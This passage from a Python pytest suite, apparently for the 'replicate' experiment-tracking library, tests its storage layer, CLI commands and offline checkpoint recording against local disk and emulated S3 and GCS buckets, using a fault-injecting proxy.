    assert "Traceback" not in text and len(lines) == 1 and lines[0].startswith("═══╡ "), text
    return lines[0][len("═══╡ "):]


def furnish(place, *documents, archives=()):
    """Put documents and archives into a place, without the program under test; archives: (kind, ID, {name: content})."""
    place.create()
    place.put("repository.json", b'{"version":1}')
    put_documents(place, *documents)
    for kind, item_id, files in archives:
        place.put("%s/%s.tar.gz" % (kind, item_id), archive_bytes(item_id, files))


def sample(place):
    """Two experiments with files and metrics."""
    first = experiment_document(A, params={"lr": 0.1, "only": "x"}, path=".", checkpoints=[
        checkpoint_document(C, "2006-01-02T15:01:05Z", 10, {"loss": 0.5}, "model", ("loss", "minimize")),
        checkpoint_document(D, "2006-01-02T15:02:05Z", 20, {"loss": 0.1}, "model", ("loss", "minimize"))])
    second = experiment_document(B, "2006-01-03T14:54:05Z", {"lr": 0.2}, user="ben", checkpoints=[
        checkpoint_document(hex_id("3c"), step=5, metrics={"loss": 0.3})])
    furnish(place, first, second, archives=[
        ("experiments", A, {"train.py": b"print(1)", "data/x": b"old"}),
        ("checkpoints", C, {"model/weights": os.urandom(20000), "data/x": b"new"}),
        ("checkpoints", D, {"model/weights": b"two" * 1000})])


# One contract for all places.

def test_storage_primitives(place, tmp_path):
    storage = replicate.open_storage(place.url)
    storage.prepare()
    assert place.keys() == []  # the probe is gone
    for use in (storage.read, storage.stat, lambda key: storage.open(key).read(1)):
        with pytest.raises(replicate.DoesNotExist, match="a/missing") as raised:
            use("a/missing")
        assert "no bucket" not in str(raised.value)
    assert list(storage.list("a/")) == []
    data = bytes(range(256)) * 40
    storage.write("a/ünï \"x\"+y.json", data)
    storage.write("a/empty", b"")
    storage.write("a/deeper/not listed", b"1")
    storage.write("ab", b"2")
    entries = {entry.key: entry for entry in storage.list("a/")}
    assert {key: entry.size for key, entry in entries.items()} == {"a/ünï \"x\"+y.json": len(data), "a/empty": 0}
    entry = entries["a/ünï \"x\"+y.json"]
    assert abs(entry.modified - time.time()) < 60 and entry.name == "ünï \"x\"+y.json"
    found = storage.stat(entry.key)
    assert (found.key, found.size, found.version) == (entry.key, entry.size, entry.version)
    assert place.get(entry.key) == storage.read(entry.key) == storage.read(entry.key, entry) == data
    assert storage.read("a/empty") == storage.read("a/empty", entries["a/empty"]) == b""
    with storage.open(entry.key) as one, storage.open(entry.key, entry) as other:
        assert one.read() == other.read() == data
    found, open_range = storage.pin(entry.key)
    assert (found.key, found.size, found.version) == (entry.key, entry.size, entry.version)
    for start, end in [(0, 10), (5, 5), (100, 10240), (10239, 10240), (7, 10240), (0, 10240), (10000, 99999), (20000, 30000)]:
        with open_range(start, end) as stream:
            assert stream.read() == data[start:end]
    with open_range(10200, 99999) as stream:
        assert b"".join(iter(lambda: stream.read(1), b"")) == data[10200:]
    with open_range(3, 1000) as stream:
        assert replicate.read_up_to(stream, 500) + replicate.read_up_to(stream, 497) == data[3:1000] and stream.read(10) == b""
    storage.write(entry.key, b"other")
    assert storage.stat(entry.key).version != entry.version and storage.read(entry.key, entry) == b"other"
    storage.update("n", lambda old: b"1" if old is None else b"wrong")
    storage.update("n", lambda old: old + b"2")
    storage.update("n", lambda old: None)
    assert storage.read("n") == b"12"
    storage.update("absent", lambda old: None)
    for size in (0, 1000, (8 << 20) + 5, 17 << 20):
        (tmp_path / "big").write_bytes(os.urandom(1 << 20) * (size >> 20) + bytes(size & 0xfffff))
        counts = []
        storage.upload("checkpoints/big", str(tmp_path / "big"), counts.append)
        assert sum(counts) == size and place.get("checkpoints/big") == (tmp_path / "big").read_bytes()
    if place.proxy:
        parts = [int(request.headers["Content-Length"]) for request in place.proxy.seen("PART")]
        assert len(parts) == 2 + 3 and max(parts) == 8 << 20
        for request in place.proxy.seen("PUT") + place.proxy.seen("PART"):  # no checksums, which MinIO, Ceph and R2 refuse
            assert "aws-chunked" not in request.headers.get("Content-Encoding", "")
            assert not [name for name in request.headers if name.lower().startswith(("x-amz-checksum", "x-amz-trailer"))]
    storage.delete(["a/empty", "missing", "a/missing too", "ab/nonsense", entry.key])
    storage.delete([])
    assert place.keys() == ["a/deeper/not listed", "ab", "checkpoints/big", "n"]


@pytest.mark.parametrize("place, locks, count", [
    ("file", True, 50), ("file", False, 100), ("s3/deep/root", True, 6), ("gs", True, 6)], indirect=["place"])
def test_concurrent_updates_lose_nothing(place, hasty, monkeypatch, locks, count):
    """Without locks at least those of one storage: stop() folds checkpoints into a pending document that a worker changes."""
    storages = [replicate.open_storage(place.url) for _ in range(4)]
    if not locks:
        monkeypatch.setattr(replicate, "lock_descriptor", lambda descriptor, wait: None)
        storages = storages[:1] * 4
    storages[0].prepare()

    def work(number):
        for step in range(count):
            storages[number].update("list", lambda old: (old or b"") + b"%d.%d " % (number, step))  # noqa: B023

    with concurrent.futures.ThreadPoolExecutor(4) as threads:
        list(threads.map(work, range(4)))
    assert sorted(place.get("list").split()) == sorted(
        b"%d.%d" % (number, step) for number in range(4) for step in range(count))


COMMANDS = [shlex.split(command) for command in (
    "ls", "ls --json", "ls --all", "ls -q", "ls -f 'lr > 0.1' --sort loss-desc", "ps", "show 1e", "show 2c", "show --json 1e",
    "show --json 1c", "show 9", "diff 1e 2e", "diff 1c 2c", "diff 1c 2c --code", "diff 1e", "tag 1e +good name=x", "show x",
    "checkout 1c -o OUT/one", "checkout 1e -o OUT/best", "checkout 2c --path data -o OUT/data",
    "checkout 1c --path model/weights -o OUT/file", "checkout 2e -o OUT/none", "rm 1c", "rm -f 1c", "ls --json --all",
    "checkout 1c", "rm -f 9 1e", "rm -f 1e", "ls --json", "rm -f 2e", "ls")]


@pytest.mark.parametrize("place", ["s3/deep/root", "gs"], indirect=True)
def test_every_command_does_what_it_does_on_disk(place, new_place, call, tmp_path):
    disk = new_place("file")
    random.seed(1)
    sample(place)
    for key in place.keys():
        disk.put(key, place.get(key))
    for command in COMMANDS:
        results = []
        for where in (disk, place):
            out = tmp_path / ("out-" + where.url.partition(":")[0])
            code, text, messages = call(*[word.replace("OUT", str(out)) for word in command], "-R", where.url)
            results.append((code, text, messages.replace(where.url, "URL").replace(str(out), "OUT")))
        assert results[0] == results[1], command
    assert tree(tmp_path / "out-file") == tree(tmp_path / ("out-" + place.url.partition(":")[0]))
    assert sorted(tree(tmp_path / "out-file")) == ["best/data/x", "best/model/weights", "best/train.py", "data/data/x",
                                                   "file/model/weights", "one/data/x", "one/model/weights", "one/train.py"]
    assert place.keys() == ["repository.json"] == disk.keys()


def test_the_library(place, project, tmp_path):
    fill(project, {"train.py": b"print(1)"})
    with replicate.init(path="train.py", params={"lr": 0.5}, quiet=True) as experiment:
        for step in range(3):
            fill(project, {"model/weights": b"%d" % step * 300000})
            experiment.checkpoint(path="model", step=step, metrics={"loss": 3.0 - step}, primary_metric=("loss", "minimize"), quiet=True)
        assert experiment.is_running()
    assert not experiment.is_running()
    assert sorted(place.checkpoints().values()) == [0, 1, 2]
    assert not [key for key in place.keys() if key.startswith(("metadata/heartbeats/", "tmp/", "journals/"))]
    assert place.files("checkpoints", experiment.checkpoints[1].id) == {"model/weights": b"1" * 300000}
    fetched = replicate.experiments.get(experiment.id[:10])
    assert fetched.params == {"lr": 0.5} and [item.step for item in fetched.checkpoints] == [0, 1, 2]
    assert fetched.best().id == fetched.latest().id == experiment.checkpoints[2].id
    assert fetched.checkpoints[0].open("model/weights").read() == b"0" * 300000
    assert fetched.latest().open("train.py").read() == b"print(1)"
    fetched.latest().checkout(str(tmp_path / "out"), quiet=True)
    assert tree(tmp_path / "out") == {"train.py": b"print(1)", "model/weights": b"2" * 300000}
    (project / "model/weights").write_bytes(b"resumed")
    added = fetched.checkpoint(path="model", metrics={"loss": 0.0}, quiet=True)
    assert added.step == 3 and added.open("model/weights").read() == b"resumed"
    assert experiment.is_running()
    fetched.stop()
    assert not experiment.is_running()
    assert [item.step for item in experiment.checkpoints] == [0, 1, 2]
    experiment.refresh()
    assert experiment.checkpoints.step == [0, 1, 2, 3] and experiment.checkpoints.metrics["loss"] == [3, 2, 1, 0]
    assert place.files("checkpoints", added.id) == {"model/weights": b"resumed"}
    elsewhere = replicate.Project(repository=place.url, directory=str(project))
    others = [elsewhere.experiments.create(quiet=True) for _ in range(3)]
    for other in others:
        other.stop()
    ids = [experiment.id] + [other.id for other in others]
    assert [item.id for item in replicate.experiments.list()] == ids
    replicate.experiments.list()[1:3].delete()
    assert [item.id for item in replicate.experiments.list()] == [ids[0], ids[3]]
    for _ in range(2):  # the second time is no error
        experiment.delete()
    others[-1].delete()
    assert place.keys() == ["repository.json"] and list(replicate.experiments.list()) == []
    for use in (experiment.refresh, lambda: replicate.experiments.get(experiment.id)):
        with pytest.raises(replicate.DoesNotExist):
            use()


@pytest.mark.parametrize("place, times", [("file", 60), ("s3", 2), ("gs", 2)], indirect=["place"])
def test_deleting_right_after_a_checkpoint_leaves_nothing(place, project, times):
    (project / "model").write_bytes(b"text " * 100000)
    others = set(threading.enumerate())
    for number in range(times):
        experiment = replicate.init(path=None if place.proxy is None else "model", quiet=True)
        experiment.checkpoint(path="model" if number % 3 == 0 else None, metrics={"n": number}, quiet=True)
        if place.proxy:
            until(place.checkpoints)
        experiment.delete()
    until(lambda: not [item for item in set(threading.enumerate()) - others if item.name.startswith("replicate-")
                       and item.name != "replicate-pool"])
    assert place.keys() == ["repository.json"]
    assert place.proxy is None or pending_leftovers(project) == []


def test_the_peer_reads_what_we_write_to_a_bucket(peer, new_place, project, tmp_path):
    place = used_by(project, new_place("gs"))
    (project / "keepsake.yaml").write_text("repository: %s\n" % place.url)
    fill(project, {"train.py": b"print(1)", "weights": os.urandom(300000)})
    with replicate.init(path="train.py", params={"lr": 0.5}, quiet=True) as experiment:
        checkpoint = experiment.checkpoint(path="weights", step=7, metrics={"loss": 0.25}, primary_metric=("loss", "minimize"), quiet=True)
    put_documents(place, *[experiment_document("%064x" % number) for number in range(110)])  # enough for an index object
    assert run("ls", "-q").returncode == 0
    assert [key for key in place.keys() if key.startswith("index/")]
    listed = peer("ls", "-q").stdout.split()
    assert len(listed) == 111 and experiment.id in listed
    assert "loss:" in peer("show", checkpoint.id).stdout and "lr:" in peer("show", experiment.id).stdout
    peer("checkout", "-f", checkpoint.id, "-o", tmp_path / "theirs")
    assert tree(tmp_path / "theirs") == {"train.py": b"print(1)", "weights": (project / "weights").read_bytes()}


# The pending area: what is recorded while the bucket is away, or when the process dies.

def messages_of(text):
    """The messages on stderr that are neither announcements of experiments nor of checkpoints."""
    announcements = r"═══╡ (Experiment \w{7}: recording|Recording experiment|Saved |Checkpoint \w{7} \(step|Waiting for)"
    return [line for line in text.splitlines() if line.startswith("═══╡") and not re.match(announcements, line)]


def take_away(proxy, how):
    """Let nothing listen any more where a bucket was, or let the store say that there is no such bucket."""
    if how == "away":
        proxy.down()
    else:
        proxy.rule = lambda request: proxy.refusal(404, "NoSuchBucket", "The specified bucket does not exist")


@pytest.mark.parametrize("how", ["away", "deleted"])
def test_training_goes_on_while_the_bucket_is_away(bucket, project, training, how):
    script = training("""
        replicate.HEARTBEAT_INTERVAL = 0.2
        experiment = replicate.init(params={"lr": 1}, quiet=True)
        save(0)
        wait("online")
        for step in range(1, 4):
            save(step)
        wait("offline")
        experiment.checkpoint(step=4, metrics={"loss": 0}, quiet=True)
        wait("back")
        experiment.stop()
        """)
    script.expect("online")
    until(lambda: len(bucket.checkpoints()) == 1)
    until(lambda: not [key for key in pending_leftovers(project) if key.startswith("checkpoints/")])
    bucket.proxy.clear()
    take_away(bucket.proxy, how)
    script.go().expect("offline")
    until(lambda: "Recording continues" in script.stderr)
    if how == "deleted":
        until(lambda: bucket.proxy.count("GET", "metadata/experiments/"))
        until(lambda: bucket.proxy.count(None, "metadata/heartbeats/") >= 3)
        assert "no bucket" in script.stderr
    (document,) = until(lambda: [item for item in pending_documents(project) if len(item["checkpoints"]) == 3])
    assert [item["step"] for item in document["checkpoints"]] == [1, 2, 3]
    listed = run("ls", "--json", "-R", "file://.replicate/pending/" + pending_root(project).name)
    assert listed.returncode == 0 and json.loads(listed.stdout)[0]["num_checkpoints"] == 3, listed.stderr
    done = run("checkout", document["checkpoints"][1]["id"], "-R", "file://%s" % pending_root(project), "-o", "out")
    assert done.returncode == 0 and (project / "out/model.bin").read_bytes().startswith(b"step 2"), done.stderr
    script.go().expect("back")
    mend(bucket.proxy)
    until(lambda: len(bucket.checkpoints()) == 5)
    until(lambda: not [key for key in pending_leftovers(project) if key.startswith("checkpoints/")])
    assert not [key for key in pending_leftovers(project) if "heartbeats" in key]
    errors = script.go().end()
    assert errors.count("Recording continues") == 1 and errors.count("can be reached again") == 1, errors
    assert bucket.steps() == [0, 1, 2, 3, 4] and pending_leftovers(project) == []
    assert not [key for key in bucket.keys() if key.startswith("metadata/heartbeats")]


def test_the_end_of_the_upload_is_not_taken_for_a_removal(bucket, project, monkeypatch, capsys):
    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.01)
    wait = replicate.Worker.wait  # after which the pulse looks once more
    monkeypatch.setattr(replicate.Worker, "wait", lambda worker: (wait(worker), time.sleep(0.5)))
    experiment = replicate.init(quiet=True)
    save(experiment, 0)
    experiment.stop()
    (message,) = messages_of(capsys.readouterr().err)
    assert "did not exist" in message and bucket.steps() == [0] and pending_leftovers(project) == []


def test_only_what_is_in_the_pending_document_is_uploaded(bucket, project):
    """If a checkpoint that is in a journal only were uploaded and removed there, the next fold would bring it back."""
    experiment = replicate.init(quiet=True)
    recorder = experiment.project.recorders.find(experiment)
    for step in range(2):
        experiment.checkpoint(metrics={"loss": step}, quiet=True)
        recorder.worker.upload_soon()
        until(lambda: bucket.documents() and bucket.steps() == [0])
        until(lambda: recorder.worker._upload_at == float("inf") and not recorder.worker.is_uploading)
        recorder.document._last_fold = time.monotonic() + 1000  # the next upload comes before the next fold
    assert bucket.steps() == [0]
    experiment.stop()
    assert bucket.steps() == [0, 1]


@pytest.mark.parametrize("fault", ["reset", "stall"])
def test_a_heartbeat_that_fails_or_hangs_does_not_hold_up_checkpoints(bucket, project, hasty, fault):
    """Also where the bucket goes away right after it was checked."""
    bucket.proxy.rule = lambda request: fault if "heartbeats" in request.key else None
    experiment = replicate.init(quiet=True)
    until(lambda: bucket.proxy.seen(prefix="heartbeats"), 20)
    experiment.checkpoint(metrics={"x": 1}, quiet=True)
    until(bucket.checkpoints, 20)
    mend(bucket.proxy)
    experiment.stop()
    assert bucket.steps() == [0]


def test_what_a_bucket_has_stays_when_the_pending_area_is_deleted(bucket, project, monkeypatch, capsys):
    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.05)
    experiment = replicate.init(quiet=True)
    save(experiment, 0)
    until(lambda: len(bucket.checkpoints()) == 1)
    until(lambda: not [key for key in pending_leftovers(project) if key.startswith("checkpoints/")])
    shutil.rmtree(str(project / ".replicate/pending"))
    until(lambda: re.search("was removed from file://(?s:.*)it is no longer recorded", capsys.readouterr().err))
    experiment.checkpoint(step=1, quiet=True)
    experiment.stop()
    assert bucket.steps() == [0]


def is_upload(request):
    """Whether a request uploads a checkpoint's files, or a part of them."""
    return request.kind in ("PUT", "START", "PART") and "checkpoints/" in request.key


def stall_archives(proxy, count):
    """Let `count` uploads of archives through and the next ones hang; returns a function that tells whether one does."""
    def is_stalled():
        return len({request.key for request in proxy.seen() if is_upload(request)}) > count

    proxy.clear()
    proxy.rule = lambda request: "stall" if is_upload(request) and is_stalled() else None
    return is_stalled


def once(proxy, when, action):
    """The first request for which when(request) holds gets this action, and goes into the list."""
    hit = []

    def rule(request):
        if hit or not when(request):
            return None
        hit.append(request)
        return action

    proxy.rule = rule
    return hit


def mend(proxy):
    """Let the store work again."""
    proxy.rule = lambda request: None
    proxy.release()
    if not proxy.server:
        proxy.up()


def push_the_rest(place, project, steps):
    """With a working store all is pushed that was left: these steps are there, and nothing waits any more."""
    mend(place.proxy)
    done = run("push")
    assert done.returncode == 0, done.stderr
    assert place.steps() == steps and pending_leftovers(project) == []
    return done.stderr


KILLED = """
    experiment = replicate.init(path=".", params={"lr": 1}, quiet=True)
    for step in range(6):
        save(step)
    wait("saved")
    """

SAVES_ONCE = """
    experiment = replicate.init(quiet=True)
    wait(experiment.id)
    save(1)
    wait("saved")
    """


def record_offline(script, place, project, rule, proxy=None):
    """Let a script that is like SAVES_ONCE come to its "saved" while its proxy obeys the rule; returns the experiment's ID."""
    item = script.lines.get(timeout=60)
    until(place.documents)
    (proxy or place.proxy).rule = rule
    script.go().expect("saved")
    until(lambda: [document for document in pending_documents(project) if document["checkpoints"]])
    return item


def test_who_looks_for_a_run_that_is_not_uploaded_yet_is_told(bucket, project, call):
    bucket.create()
    bucket.proxy.down()
    item = run_script(HASTY + "experiment = replicate.init(quiet=True)\nprint(experiment.id)").stdout.strip()
    bucket.proxy.up()
    code, _, errors = call("show", item[:9])
    assert code == 1 and "not found: %s. It has not been uploaded yet: run '" % item[:9] in one_message(errors)
    for arguments, told in ([], 1), (["--wide"], 1), (["-q"], 0), (["--json"], 0):
        assert call("ls", *arguments)[2].count("Still to be uploaded from this project: 1 experiment.") == told
    assert call("push")[0] == 0 and call("ls")[2] == ""


@pytest.mark.parametrize("by", ["push", "the next run"])
def test_what_a_killed_process_left_is_sent(bucket, project, training, by):
    is_stalled = stall_archives(bucket.proxy, 2)
    script = training(KILLED)
    script.expect("saved")
    until(is_stalled)
    script.kill()
    (before,) = pending_documents(project)
    mend(bucket.proxy)
    if by == "the next run":
        run_script(HASTY + "replicate.init(quiet=True).stop()")
    said = push_the_rest(bucket, project, list(range(6)))
    assert ("Uploaded 1 experiment" if by == "push" else "Nothing is waiting") in said
    document = bucket.document(before["id"])
    assert sorted(item["step"] for item in document["checkpoints"]) == list(range(6))
    assert "replicate.yaml" in bucket.files("experiments", document["id"])
    assert not {"replicate_sent", "imported_packages"} & set(document)
    assert "Nothing is waiting" in run("push").stderr


def test_a_push_that_is_refused_or_interrupted_can_be_run_again(bucket, project, training):
    bucket.proxy.rule = lambda request: "reset" if is_upload(request) else None
    script = training(KILLED)
    script.expect("saved")
    script.kill()
    bucket.proxy.rule = lambda request: bucket.proxy.refusal() if is_upload(request) else None
    done = run("push")
    assert done.returncode == 1 and "You may not do that" in done.stderr and "Traceback" not in done.stderr
    assert len(pending_documents(project)[0]["checkpoints"]) == 6
    is_stalled = stall_archives(bucket.proxy, 2)
    push = subprocess.Popen([sys.executable, str(PROGRAM), "push"], stderr=subprocess.PIPE, universal_newlines=True)
    until(is_stalled)
    push.send_signal(signal.SIGINT)
    _, errors = push.communicate(timeout=30)
    assert push.returncode == 130 and "Traceback" not in errors, errors
    assert not [item for item in bucket.documents() if item["checkpoints"]]  # a document names only what is there
    bucket.proxy.clear()
    assert "Uploaded 1 experiment and 6 checkpoints" in push_the_rest(bucket, project, list(range(6)))
    assert len({request.key for request in bucket.proxy.seen("PUT", "checkpoints/")}) <= 5  # what was there is not sent again


@pytest.mark.parametrize("source, target", [("file", "s3"), ("s3/deep", "file"), ("s3", "gs/root")])
def test_push_from_copies_between_repositories(new_place, project, source, target, call, says):
    here, there = new_place(source), new_place(target)
    push_all = ("push", "--from", here.url, "-R", there.url)
    sample(here)
    assert run("push", "--from", here.url, "2e", "-R", there.url).returncode == 0
    assert [item["id"] for item in there.documents()] == [B]
    put_documents(there, experiment_document(B, checkpoints=[checkpoint_document(hex_id("9c"), step=99)]))
    assert "Copied 2 experiments and 3 checkpoints" in says(*push_all)
    assert there.document(A) == here.document(A)
    assert [item["step"] for item in there.document(B)["checkpoints"]] == [99, 5]  # what was there stays
    for key in here.keys():
        if key.endswith(".tar.gz"):
            assert there.get(key) == here.get(key)
    assert one_message(says(*push_all)) == "Nothing was copied: %s has everything already" % there.url
    assert len(there.checkpoints()) == 4
    assert says(*push_all, "77", code=1)
    assert "are the same" in one_message(says("push", "--from", here.url, "-R", here.url, code=2))
    assert call("push", "1e", "-R", there.url)[0] == 2
    assert call("push", "--from", here.url + "x", "-R", there.url)[0] == 1


def test_what_a_live_process_records_is_left_to_it_and_once_it_is_killed_goes_with_a_resumed_run(
        bucket, project, hasty, training):
    away = WireProxy(bucket.proxy.upstream, bucket.proxy.is_gcs)
    script = training(SAVES_ONCE, env={"AWS_ENDPOINT_URL": away.address, "STORAGE_EMULATOR_HOST": away.address})
    item = record_offline(script, bucket, project, lambda request: "reset", away)
    until(lambda: not [key for key in pending_leftovers(project) if key.endswith(".jsonl")])
    done = run("push")
    assert done.returncode == 0 and "Another process is still recording experiment" in done.stderr, done.stderr
    run_script("import replicate\nreplicate.init(quiet=True).stop()")  # nor does another run send it
    assert bucket.checkpoints() == {} and len(pending_documents(project)[0]["checkpoints"]) == 1
    script.kill()
    away.close()
    experiment = replicate.experiments.get(item)
    experiment.checkpoint(step=2, quiet=True)
    experiment.stop()
    push_the_rest(bucket, project, [1, 2])


@pytest.mark.parametrize("what", ["everything", "writing"])
def test_a_refusal_at_init_is_raised_at_once(bucket, project, what):
    bucket.create()
    refusal = bucket.proxy.refusal(message="User ben is not authorized to do that")
    bucket.proxy.rule = lambda request: refusal if what == "everything" or request.method in ("PUT", "POST") else None
    with pytest.raises(replicate.ReplicateError, match="ben is not authorized|Forbidden|not authorized") as raised:
        replicate.init(quiet=True)
    assert bucket.url in str(raised.value) and "\n" not in str(raised.value)
    assert bucket.proxy.count("PUT") <= 1 and bucket.proxy.count() <= 4
    assert pending_documents(project) == replicate._recorders == []


@pytest.mark.parametrize("how", ["nothing listens", "it stalls"])
def test_an_unreachable_bucket_at_init_does_not_stop_training(bucket, project, hasty, monkeypatch, capsys, how):
    monkeypatch.setattr(replicate, "REACH_SECONDS", 0.5)
    monkeypatch.setattr(replicate.CloudStorage, "TIMEOUT", 0.5)
    bucket.proxy.rule = lambda request: "stall"
    if how == "nothing listens":
        bucket.proxy.down()
    experiment = replicate.init(path=".", quiet=True)
    save(experiment, 0)
    errors = capsys.readouterr().err
    assert "cannot be reached" in errors
    until(lambda: [item for item in pending_documents(project) if item["checkpoints"]])
    if how == "it stalls":
        mend(bucket.proxy)
        until(lambda: bucket.exists() and bucket.checkpoints())
    save(experiment, 1)
    experiment.stop()
    errors += capsys.readouterr().err
    if how == "it stalls":
        assert "can be reached again" in errors and bucket.steps() == [0, 1] and pending_leftovers(project) == []
    else:
        assert "Not everything was uploaded" in errors and errors.count("Recording continues") == 1, errors
        assert len(pending_documents(project)[0]["checkpoints"]) == 2
        push_the_rest(bucket, project, [0, 1])


def test_a_request_that_gave_up_is_never_taken_for_done(bucket, hasty, monkeypatch):
    """A deadline is set when the process ends, also while requests are under way."""
    monkeypatch.setattr(replicate.CloudStorage, "ATTEMPTS", 30)
    storage = replicate.open_storage(bucket.url)
    storage.prepare()
    bucket.proxy.clear()

    def rule(request):
        if len(bucket.proxy.requests) == 4:
            storage.deadline = time.monotonic() + 100
        return "reset"

    bucket.proxy.rule = rule
    with pytest.raises(replicate.Unreachable):
        storage.write("checkpoints/x", b"data")
    assert len(bucket.proxy.requests) == 4 and "checkpoints/x" not in bucket.keys()


USES = {"list": lambda storage: list(storage.list("a/")), "stat": lambda storage: storage.stat("a"),
        "open": lambda storage: storage.open("a"), "read": lambda storage: storage.read("a"),
        "write": lambda storage: storage.write("a", b"x"), "delete": lambda storage: storage.delete(["a"]),
        "update": lambda storage: storage.update("a", lambda old: b"x"), "prepare": lambda storage: storage.prepare(),
        "upload": lambda storage: storage.upload("a", str(PROGRAM)),
        "upload in parts": lambda storage: storage.upload("a", "large")}


def test_a_server_that_never_answers_is_given_up_by_the_deadline(bucket, project, monkeypatch):
    """TIMEOUT would hold each request up for a thousand seconds; a deadline that is near lets none begin."""
    bucket.proxy.rule = lambda request: "stall"
    monkeypatch.setattr(replicate.CloudStorage, "TIMEOUT", 1000.0)
    monkeypatch.setattr(replicate.CloudStorage, "LAST_TIMEOUT", 0.2)
    (project / "large").write_bytes(bytes(9 << 20))
    storage = replicate.open_storage(bucket.url)
    for left, requests in ((1000.0, 1), (0.1, 0)):
        storage.deadline = time.monotonic() + left
        for name, use in USES.items():
            bucket.proxy.clear()
            with pytest.raises(replicate.Unreachable, match=bucket.url):
                use(storage)
            until(lambda: len(bucket.proxy.requests) >= requests)  # noqa: B023
            assert len(bucket.proxy.requests) == requests, name


@pytest.mark.parametrize("end, store", [
    ("SIGTERM", "silent"), ("Ctrl-C", "silent"), ("exit", "silent"), ("SIGTERM", "resets uploads"),
    ("Ctrl-C in stop()", "silent in uploads"), ("Ctrl-C in stop()", "silent from an upload on")])
def test_a_bucket_that_never_answers_does_not_hold_up_the_end(bucket, project, training, end, store):
    uploads = []

    def rule(request):
        if is_upload(request):
            uploads.append(request)
        if store == "resets uploads":
            return "reset" if is_upload(request) else None
        return "stall" if store == "silent" or is_upload(request) or uploads and store == "silent from an upload on" else None

    script = training("""
        replicate.Progress.show = lambda self, text: print(text, file=sys.stderr, flush=True)
        replicate.CloudStorage.FIRST_PAUSE = replicate.CloudStorage.LONGEST_PAUSE = float(os.environ["PAUSE"])
        experiment = replicate.init(quiet=True)
        wait(experiment.id)
        save(1)
        wait("saved")
        try:
            if "stop" in os.environ["END"]:
                experiment.stop()
        except KeyboardInterrupt:
            print("raised", flush=True)
        """, env={"END": end, "PAUSE": "0.3" if store == "resets uploads" else "0.01"})
    record_offline(script, bucket, project, rule)
    until(lambda: len(uploads) >= {"silent": 0, "resets uploads": 4}.get(store, 1))
    if end == "SIGTERM":
        script.process.terminate()
    else:
        script.go()
    if "Ctrl-C" in end:
        until(lambda: re.search(r"Uploading: .* of 1\.\d kB \(Ctrl-C leaves the rest for '.*push'\)", script.stderr))
        script.process.send_signal(signal.SIGINT)
    errors = script.end(timeout=45, code=-signal.SIGTERM if end == "SIGTERM" else 0)  # 70 seconds without a common deadline
    assert "Not everything was uploaded" in errors and "push" in errors and "Traceback" not in errors, errors
    assert len(pending_documents(project)[0]["checkpoints"]) == 1 and not bucket.checkpoints()
    push_the_rest(bucket, project, [1])


def test_an_upload_that_fails_while_the_run_ends_is_not_said_to_be_retried(bucket, project, capsys):
    experiment = replicate.init(quiet=True)
    until(bucket.documents)

    def rule(request):
        if is_upload(request):
            experiment.project.recorders.find(experiment).worker.finish_by(time.monotonic() + 5)
            return "reset"

    bucket.proxy.rule = rule
    save(experiment, 1)
    until(lambda: bucket.proxy.seen("PUT", "checkpoints/"))
    experiment.stop()
    errors = capsys.readouterr().err
    assert "Not everything was uploaded" in errors and "Recording continues" not in errors, errors
    push_the_rest(bucket, project, [1])


def test_a_full_disk_gets_room_from_what_was_uploaded(bucket, project, hasty, monkeypatch):
    create = replicate.DiskStorage.create

    def fail_without_room(storage, key, write):
        if names_in(pending_root(project) / "checkpoints") and "checkpoints/" not in key and bucket.checkpoints():
            raise replicate.WriteError("%s could not be written: No space left on device." % key)
        return create(storage, key, write)

    experiment = replicate.init(quiet=True)
    until(bucket.documents)
    monkeypatch.setattr(replicate.DiskStorage, "create", fail_without_room)
    save(experiment, 1)
    until(lambda: bucket.checkpoints() and pending_documents(project)[0]["checkpoints"] == [], seconds=20)
    experiment.stop()
    assert bucket.steps() == [1] and pending_leftovers(project) == []


@pytest.mark.parametrize("removed", ["before", "meanwhile"])
def test_push_drops_what_waits_of_a_removed_experiment_and_says_so(bucket, project, training, removed):
    script = training(SAVES_ONCE.replace("save(1)", "[save(1), save(2)]"))
    item = record_offline(script, bucket, project, lambda request: "reset" if is_upload(request) else None)
    script.kill()
    bucket.proxy.clear()

    def remove(request):
        if is_upload(request) and bucket.documents():
            bucket.remove(document_key(item))

    bucket.proxy.rule = remove
    if removed == "before":
        bucket.remove(document_key(item))
    done = run("push")
    assert done.returncode == 0 and "Experiment %s was removed from %s; its waiting checkpoints were dropped." % (
        item[:7], bucket.url) in done.stderr and "Uploaded 0" not in done.stderr, done.stderr
    assert not [key for key in bucket.keys() if "checkpoints/" in key] and pending_leftovers(project) == []
    assert removed == "meanwhile" or not [request for request in bucket.proxy.requests if is_upload(request)]


def test_imported_packages_reach_the_bucket_when_recording_stops(bucket, project, training):
    """In a document that has had changes of others, with the last checkpoint or without one."""
    script = training("""
        experiment = replicate.init(quiet=True)
        save(1)
        wait(experiment.id)
        experiment.stop()
        wait("stopped")
        """)
    item = script.expect("")
    until(bucket.checkpoints)
    until(lambda: [document for document in pending_documents(project) if not document["checkpoints"]])
    (document,) = bucket.documents()
    assert "imported_packages" not in document
    put_documents(bucket, dict(document, color="red"))
    script.go().expect("stopped")
    (stopped,) = bucket.documents()
    assert "pytest" not in stopped["imported_packages"] and sorted(stopped["imported_packages"]) == stopped["imported_packages"]
    assert (document["outcome"]["status"], stopped["outcome"]["status"]) == ("open", "completed")
    assert dict(stopped, imported_packages=0, outcome=0) == dict(document, color="red", imported_packages=0, outcome=0)
    script.kill()
    put_documents(bucket, dict(stopped, imported_packages=["zz"]))
    run_script(HASTY + "experiment = replicate.experiments.get(%r)\nsave(2)" % item)
    (again,) = bucket.documents()
    assert again["imported_packages"] == stopped["imported_packages"] + ["zz"] and again["color"] == "red"
    assert pending_leftovers(project) == []


@pytest.mark.parametrize("how", ["away", "deleted"])
def test_a_checkpoint_after_stop_while_the_bucket_is_away(s3_bucket, project, hasty, capsys, how):
    experiment = replicate.init(quiet=True)
    experiment.checkpoint(step=0, quiet=True)
    until(s3_bucket.checkpoints)
    take_away(s3_bucket.proxy, how)
    experiment.checkpoint(step=1, quiet=True)
    experiment.stop()
    assert how == "away" or "no bucket" in capsys.readouterr().err
    assert [item["step"] for item in pending_documents(project)[0]["checkpoints"]] == [1]
    experiment.checkpoint(step=2, quiet=True)
    experiment.stop()
    push_the_rest(s3_bucket, project, [0, 1, 2])


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
